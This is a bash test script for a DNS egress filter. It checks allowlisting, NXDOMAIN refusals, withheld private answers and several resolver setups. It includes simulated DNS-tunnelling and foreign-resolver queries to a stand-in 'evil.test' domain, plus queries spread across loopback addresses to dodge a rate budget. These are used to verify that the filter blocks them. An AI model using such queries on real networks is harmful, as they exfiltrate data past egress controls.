#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2209,SC2329
# DNS through the gate: over UDP and TCP, IPv4 and IPv6, from the host's own output and forwarded.
. "$(dirname "$0")/lib.sh"
bed

# dig's view of one question: "STATUS answer answer …", and its whole output in $T/dig.
ask() {
    client dig +tries=1 +timeout=5 "$@" > "$T/dig" 2>&1 || { cat "$T/dig" && return 1; }
    sed -n 's/.*status: \([A-Z]*\),.*/\1/p' "$T/dig" | head -1
}
answers() { grep -aEq "$1" "$T/dig" || { cat "$T/dig" && return 1; }; }

allowed_resolves() {
    [ "$(ask @198.18.2.53 allowed.test A)" = NOERROR ]
    answers 'IN.A.198\.18\.2\.80'
    [ "$(ask @2001:db8:2::53 allowed.test AAAA)" = NOERROR ]
    answers 'AAAA.2001:db8:2::80'
    [ "$(ask @198.18.2.53 aLLowed.TEST. A)" = NOERROR ]
    answers '198\.18\.2\.80'
    client getent ahosts allowed.test | grep -q 2001:db8:2::80
}
denied_is_nxdomain_at_once() {
    local from
    from=$(wc -l < "$T/events")
    [ "$(quick 1000 ask @"$1" other.test A)" = NXDOMAIN ]
    answers 'EDE: 15'
    grep -q 'AUTHORITY: 0' "$T/dig"
    said "$from" not_in_allowlist other.test
    expect_not_at_resolver 'query\[A\] other.test'
}
expect_not_at_resolver() { if grep -E "$1" "$T/dns.log"; then die "the resolver was asked"; fi; }
denied_without_edns() { [ "$(quick 1000 ask @198.18.2.53 +noedns other.test A)" = NXDOMAIN ] && fails grep -q 'EDE' "$T/dig"; }
denied_getent() { quick 1500 fails client getent ahosts other.test; }
wildcards() {
    [ "$(ask @198.18.2.53 a.wild.test)" = NOERROR ]
    [ "$(ask @198.18.2.53 deep.a.wild.test)" = NOERROR ]
    [ "$(ask @198.18.2.53 wild.test)" = NXDOMAIN ]
    [ "$(ask @198.18.2.53 evilwild.test)" = NXDOMAIN ]
}
types() {
    local type
    for type in TXT HTTPS SVCB MX ANY SRV; do
        [ "$(quick 1000 ask @198.18.2.53 +notcp +noedns allowed.test $type)" = NOERROR ] || die "$type" || return 1
        grep -q 'ANSWER: 0' "$T/dig" || { cat "$T/dig" && return 1; }
    done
    [ "$(ask @198.18.2.53 allowed.test A)" = NOERROR ]
    answers '198\.18\.2\.80'
}
chain() {
    [ "$(ask @198.18.2.53 chain0.test)" = NOERROR ]
    answers '198\.18\.2\.81'
    # The targets got no entry by it.
    [ "$(ask @198.18.2.53 chain1.test)" = NXDOMAIN ]
    fetch https://chain0.test/hello | grep -q 'hello from chain0.test'
}
truncated() {
    # 100 addresses: the UDP answer is cut, dig asks again over TCP; glibc too.
    [ "$(ask @198.18.2.53 +ignore big.test)" = NOERROR ]
    answers 'flags:.* tc'
    ask @198.18.2.53 big.test > /dev/null
    answers 'ANSWER: 100'
    [ "$(client getent ahostsv4 big.test | grep -c STREAM)" = 100 ]
    fetch -4 https://big.test/hello | grep -q 'hello from big.test'
}
tcp_allowed() {
    [ "$(ask @198.18.2.53 +tcp allowed.test)" = NOERROR ]
    answers '198\.18\.2\.80'
    [ "$(ask @2001:db8:2::53 +tcp allowed.test AAAA)" = NOERROR ]
    answers '2001:db8:2::80'
}
tcp_denied() {
    local from
    from=$(wc -l < "$T/events")
    [ "$(quick 1000 ask @198.18.2.53 +tcp tcpdenied.test)" = NXDOMAIN ]
    answers 'EDE: 15'
    said "$from" not_in_allowlist tcpdenied.test
    [ "$(quick 1000 ask @2001:db8:2::53 +tcp tcpdenied6.test)" = NXDOMAIN ]
    expect_not_at_resolver 'tcpdenied'
}
tcp_cut() {
    local how server
    for how in whole pipelined bytes halves; do
        for server in 198.18.2.53 2001:db8:2::53; do
            near dns-tcp $server $how allowed.test cut-$how.test v4only.test cut2-$how.test > "$T/out"
            printf '%s\n' '100 NOERROR answers=1 truncated=0' '101 NXDOMAIN answers=0 truncated=0' '102 NOERROR answers=1 truncated=0' \
                '103 NXDOMAIN answers=0 truncated=0' | diff - "$T/out"
        done
    done
    expect_not_at_resolver 'cut2?-'
}
tcp_malformed() {
    # A length of 0; a length above 4096, and some of it: the connection ends.
    local bytes
    for bytes in 0000 1fff00; do
        status 1 quick 4000 near dns-tcp-raw 198.18.2.53 $bytes > "$T/raw"
        has '^(closed|ECONNRESET )' "$T/raw"
    done
    allowed_resolves
}
both_at_once() {
    local i server
    for i in 1 2 3 4 5; do
        for server in 198.18.2.53 2001:db8:2::53; do
            near dns-udp $server both.test both.test/AAAA > "$T/out"
            printf '%s\n' '200 NOERROR answers=1 truncated=0' '201 NOERROR answers=1 truncated=0' | diff - "$T/out"
        done
    done
    near dns-udp 198.18.2.53 both.test nope.test both.test/AAAA nope.test/AAAA > "$T/out"
    [ "$(grep -c NOERROR "$T/out")$(grep -c NXDOMAIN "$T/out")" = 22 ]
}
identical_retries() {
    near dns-again 198.18.2.53 allowed.test 3 | grep -q '321 NOERROR answers=1'
    near dns-again 198.18.2.53 slow.test 4 | grep -q '321 NOERROR answers=1' # the first answer is 1.5 s away
}
# all_answered "COMMAND SERVER …" COUNT: so many equal questions from one socket, while the resolver takes its 1.5 s: each id gets its answer.
all_answered() {
    local names
    printf -v names 'slow.test %.0s' $(seq "$2")
    # shellcheck disable=SC2086
    near $1 $names > "$T/out"
    [ "$(grep -c ' NOERROR answers=1 truncated=0$' "$T/out")" = "$2" ] && [ "$(sort -u "$T/out" | wc -l)" = "$2" ] || die "$(sort "$T/out" | head -n 20)"
}
equal_at_once() { # as c-ares asks, node's dns.resolve
    local asked
    asked=$(grep -ac 'query\[A\] slow.test' "$T/dns.log")
    all_answered "dns-udp $1" 100
    all_answered "dns-tcp $1 pipelined" 60
    asked=$(($(grep -ac 'query\[A\] slow.test' "$T/dns.log") - asked))
    [ $asked -ge 2 ] && [ $asked -lt 80 ] || die "the resolver was asked $asked times"
    fails grep -q questions_full "$T/events"
}
second_denied_on_one_socket() {
    # A tracked injected answer once let the next forbidden query through on the same socket.
    near dns-udp 198.18.2.53 again1.test > "$T/out"
    near dns-udp 198.18.2.53 again2.test again3.test again4.test >> "$T/out"
    [ "$(grep -c NXDOMAIN "$T/out")" = 4 ]
    near dns-again 198.18.2.53 again5.test 5 | grep -q NXDOMAIN
    expect_not_at_resolver 'again[0-9]'
}
# withheld NAME TYPE ADDRESS: the name is answered, without that.
withheld() {
    [ "$(ask @198.18.2.53 "$1" "$2")" = NOERROR ]
    answers 'EDE: 15'
    fails grep -q "$3" "$T/dig"
}
private_answers() {
    withheld private.test A '10\.66\.0\.80'
    withheld meta.test A '169\.254'
    withheld meta.test AAAA 'fd00:ec2'
    withheld loop.test A 'A.127\.0'
    fails fetch https://private.test/hello
    [ "$(ask @198.18.2.53 split.test)" = NOERROR ]
    answers '10\.66\.0\.80'
    fetch https://split.test/hello | grep -q 'hello from split.test'
}
private_says() {
    local from
    from=$(wc -l < "$T/events")
    ask @198.18.2.53 private.test > /dev/null
    said "$from" private_address private.test
}
foreign() { client dig +tries=1 +timeout=5 @198.18.3.66 "$1.evil.test"; }
foreign_6() { client dig +tries=1 +timeout=5 @2001:db8:3::66 "$1.evil.test"; }
foreign_tcp() { client dig +tcp +tries=1 +timeout=5 @198.18.3.66 "$1.evil.test"; }
tunnel() { client dig +tries=1 +timeout=5 "payload-$1.evil.test"; }
foreign_at_once() { quick 1000 foreign "x$(nonce)" || [ $? != 99 ]; }

for attack in foreign foreign_6 foreign_tcp tunnel; do check "without the gate $attack reaches the attacker" attack_reaches $attack; done

for form in output forward; do
    FORM=$form
    policy "$T/policy.yaml" "${ALLOW[@]}"
    gate_up $form "$T/policy.yaml"
    check "an allowed name resolves, UDP, v4 and v6, any case" allowed_resolves
    check "a denied name: NXDOMAIN at once with EDE, never asked (v4)" denied_is_nxdomain_at_once 198.18.2.53
    check "a denied name: NXDOMAIN at once with EDE, never asked (v6)" denied_is_nxdomain_at_once 2001:db8:2::53
    check "a denied name without EDNS: NXDOMAIN, no OPT" denied_without_edns
    check "getent of a denied name fails at once" denied_getent
    check "wildcards: below, not the apex, not a suffix" wildcards
    check "types that the policy does not name: NODATA" types
    check "a CNAME chain resolves and opens; its targets gain no entry" chain
    check "a truncated answer is asked again over TCP" truncated
    check "over TCP an allowed name resolves" tcp_allowed
    check "over TCP a denied name: NXDOMAIN at once with EDE" tcp_denied
    check "over TCP segmented and pipelined" tcp_cut
    check "over TCP malformed lengths end the connection" tcp_malformed
    check "A and AAAA at once from one socket" both_at_once
    check "identical retries get their answer" identical_retries
    check "equal questions at once: one goes on, each gets its answer (v4)" equal_at_once 198.18.2.53
    check "equal questions at once: one goes on, each gets its answer (v6)" equal_at_once 2001:db8:2::53
    check "each forbidden query of one socket is refused" second_denied_on_one_socket
    check "private, metadata and loopback answers are withheld; name@range permits" private_answers
    check "a withheld answer is reported" private_says
    check "a foreign resolver is not reached (v4)" attack_refused foreign_resolver 198.18.3.66 foreign
    check "a foreign resolver is not reached (v6)" attack_refused foreign_resolver 2001:db8:3::66 foreign_6
    check "a foreign resolver is not reached (TCP)" attack_refused 'foreign_resolver|not_resolved' 198.18.3.66 foreign_tcp
    check "a query to a foreign resolver is answered at once" foreign_at_once
    check "a DNS tunnel through the pinned resolver is refused" attack_refused 'not_in_allowlist|tunnel_suspected' '' tunnel
    gate_down
done

# A resolver that never says a word: refusals come at once all the same.
silent() {
    [ "$(quick 1000 ask @198.18.2.54 other.test)" = NXDOMAIN ]
    [ "$(quick 1000 ask @2001:db8:2::54 other.test)" = NXDOMAIN ]
    [ "$(quick 1000 ask @198.18.2.54 +tcp other.test)" = NXDOMAIN ]
    fails client dig +tries=1 +timeout=1 @198.18.2.54 allowed.test
}
for form in output forward; do
    FORM=$form
    RESOLVERS='198.18.2.54, 2001:db8:2::54' policy "$T/policy.yaml" "${ALLOW[@]}"
    gate_up $form "$T/policy.yaml"
    check "a silent resolver: refusals come at once" silent
    gate_down
done

# A resolver behind DNAT, as a ClusterIP is: pinned by the address that the client asks.
dnat() {
    local hook # as kube-proxy does it: for what is forwarded and for what the host itself sends (the gate's relay)
    for hook in output prerouting; do
        h "$1" nft -f - <<NFT
table inet clusterip {
    chain $hook { type nat hook $hook priority -100; ip daddr 198.18.9.53 udp dport 53 dnat ip to 198.18.2.53; ip daddr 198.18.9.53 tcp dport 53 dnat ip to 198.18.2.53; }
}
NFT
    done
}
behind_dnat() {
    [ "$(ask @198.18.9.53 allowed.test)" = NOERROR ]
    answers '198\.18\.2\.80'
    [ "$(quick 1000 ask @198.18.9.53 other.test)" = NXDOMAIN ]
    answers 'EDE: 15'
    [ "$(ask @198.18.9.53 +tcp allowed.test)" = NOERROR ]
    [ "$(quick 1000 ask @198.18.9.53 +tcp other.test)" = NXDOMAIN ]
    all_answered "dns-udp 198.18.9.53" 20
    all_answered "dns-tcp 198.18.9.53 pipelined" 20
    fetch -4 https://allowed.test/hello | grep -q hello
}
for form in output forward; do
    FORM=$form
    resolver c 198.18.9.53
    if [ $form = output ]; then dnat c; else dnat g; fi
    RESOLVERS=198.18.9.53 policy "$T/policy.yaml" "${ALLOW[@]}"
    gate_up $form "$T/policy.yaml"
    check "a resolver behind DNAT" behind_dnat
    gate_down
    h c nft delete table inet clusterip 2> /dev/null || h g nft delete table inet clusterip
    resolver c 198.18.2.53 2001:db8:2::53
done

# A resolver on loopback: whichever of its 2^24 addresses the job sends from, it has one budget.
start "$T/local.log" c dnsmasq -k --no-resolv --no-hosts --server=198.18.2.53 --listen-address=127.0.0.55 --bind-interfaces --user=root --pid-file=
eventually 5 h c sh -c 'ss -Hlnu src 127.0.0.55 | grep -q .' || t_fail "a resolver on loopback starts" "$(cat "$T/local.log")"
many_sources() { # NONCE: how many of 12 names reach the resolver behind, in $seen
    local i
    for i in {2..13}; do client dig -b "127.9.$i.1" +tries=1 +timeout=10 @127.0.0.55 "$1y$i.a.wild.test" > /dev/null || :; done
    seen=$(grep -ao "query\[A\] $1y[0-9]*\.a" "$T/dns.log" | sort -u | wc -l)
}
many_reach() { many_sources "$(nonce)" && [ "$seen" = 12 ]; }
one_budget() {
    local from seen
    from=$(wc -l < "$T/events")
    many_sources "$(nonce)"
    [ "$seen" = 4 ] || die "$seen names reached the resolver"
    said "$from" tunnel_suspected 127.9.
}
check "without the gate names asked from many loopback addresses reach the resolver" many_reach
FORM=output
RESOLVERS=127.0.0.55 PROFILE_MORE='dns: { budget: { names_per_minute: 4 } }' policy "$T/policy.yaml" "${ALLOW[@]}"
gate_up output "$T/policy.yaml"
check "a job has one budget from all addresses of loopback" one_budget
gate_down

# The local stub of a real systemd-resolved on 127.0.0.53.
RESOLVED=$(ls /lib/systemd/systemd-resolved "$TOOLS"/systemd-resolved/lib/systemd/systemd-resolved 2> /dev/null | head -1)
stub_up() {
    # It drops to the user systemd-resolve, which need not exist here: shown to it in its own mount namespace.
    cp /etc/passwd "$T/passwd"
    cp /etc/group "$T/group"
    grep -q ^systemd-resolve: /etc/passwd || echo 'systemd-resolve:x:995:995::/:/usr/sbin/nologin' >> "$T/passwd"
    grep -q ^systemd-resolve: /etc/group || echo 'systemd-resolve:x:995:' >> "$T/group"
    mkdir -p "$T/resolved"
    printf '%s\n' '[Resolve]' 'DNS=198.18.2.53' 'Domains=~.' 'DNSSEC=no' 'LLMNR=no' 'MulticastDNS=no' 'Cache=no' > "$T/resolved.conf"
    h c sh -c 'mount --bind "$1/passwd" /etc/passwd && mount --bind "$1/group" /etc/group && mkdir -p /run/systemd && { [ -e /etc/systemd/resolved.conf ] || : > /etc/systemd/resolved.conf; } &&
        mount --bind "$1/resolved.conf" /etc/systemd/resolved.conf' sh "$T" || return 1
    start "$T/resolved.log" c env SYSTEMD_LOG_LEVEL=info LD_LIBRARY_PATH="$(dirname "$RESOLVED")" "$RESOLVED"
    eventually 10 h c dig +tries=1 +timeout=1 +short @127.0.0.53 allowed.test > "$T/stub.out" 2>&1
    grep -q 198 "$T/stub.out"
}
stub() {
    client getent ahostsv4 allowed.test | grep -q 198.18.2.80
    [ "$(ask @127.0.0.53 allowed.test)" = NOERROR ]
    answers '198\.18\.2\.80'
    [ "$(quick 1000 ask @127.0.0.53 other.test)" = NXDOMAIN ]
    answers 'EDE: 15'
    [ "$(ask @127.0.0.53 +tcp allowed.test)" = NOERROR ]
    [ "$(quick 1000 ask @127.0.0.53 +tcp other.test)" = NXDOMAIN ]
    fetch -4 https://allowed.test/hello | grep -q hello
    expect_not_at_resolver 'stubdenied'
}
stub_tunnel() { client dig +tries=1 +timeout=5 @127.0.0.53 "stub-$1.evil.test"; }
if [ -n "$RESOLVED" ]; then
    if stub_up > "$T/stub.log" 2>&1; then
        resolver c 127.0.0.53
        check "without the gate a tunnel through the stub reaches the attacker" attack_reaches stub_tunnel
        FORM=output
        RESOLVERS=system policy "$T/policy.yaml" "${ALLOW[@]}"
        gate_up output "$T/policy.yaml"
        check "a real systemd-resolved on 127.0.0.53" stub
        check "a tunnel through the stub is refused" attack_refused 'not_in_allowlist|tunnel_suspected' '' stub_tunnel
        gate_down
    else
        t_fail "systemd-resolved starts" "$(cat "$T/stub.log" "$T/resolved.log" "$T/stub.out")"
    fi
else
    t_skip "a real systemd-resolved on 127.0.0.53" "its package could not be fetched"
fi
finish
